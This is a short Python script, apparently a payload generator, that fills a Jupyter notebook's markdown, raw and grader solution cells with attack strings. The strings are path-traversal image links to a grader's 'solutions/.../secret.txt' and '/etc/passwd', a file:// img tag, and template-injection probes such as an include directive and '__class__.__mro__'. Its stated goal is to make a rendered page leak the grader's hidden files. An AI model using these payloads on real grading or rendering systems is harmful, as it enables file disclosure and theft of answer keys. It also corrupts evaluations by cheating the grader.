"""Show local files as pictures and templates in Markdown. Success: a page holds what a file of the grader holds."""

_TEXT = """
![a](../../../../solutions/NAME/secret.txt) ![b](/etc/passwd) <img src="file:///etc/passwd">
![c](attachment:../../../../solutions/NAME/secret.txt) ![d](files/../../../solutions/NAME/secret.txt)
{{ resources }} {% include '../../../solutions/NAME/secret.txt' %} {{ ''.__class__.__mro__ }} {{ 7 * 7 }}{{ nb }}
"""


def make(notebook, folder):
    text = _TEXT.replace("NAME", folder.name)
    for kind in ("markdown", "raw"):
        notebook["cells"].append({"cell_type": kind, "source": text, "metadata": {}})
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown" and cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = text
    return notebook
